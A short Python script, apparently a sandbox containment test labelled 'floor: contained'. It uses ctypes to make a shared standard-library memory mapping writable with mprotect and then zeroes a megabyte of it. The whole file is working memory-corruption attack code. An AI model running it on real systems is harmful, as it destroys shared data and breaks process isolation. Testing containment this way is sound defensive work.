# floor: contained
# It makes the shared mapping of the standard library writable and spoils it.
import ctypes, sys
L = ctypes.CDLL(None, use_errno=True)
memory = sys.meta_path[-1]._memory
class Buffer(ctypes.Structure):
    _fields_ = [("buf", ctypes.c_void_p), ("obj", ctypes.py_object), ("len", ctypes.c_ssize_t), ("rest", ctypes.c_char * 64)]
view = Buffer()
ctypes.pythonapi.PyObject_GetBuffer(ctypes.py_object(memory), ctypes.byref(view), 0)
L.mprotect(ctypes.c_void_p(view.buf), ctypes.c_size_t(view.len), 3)
ctypes.memset(view.buf, 0, 1 << 20)
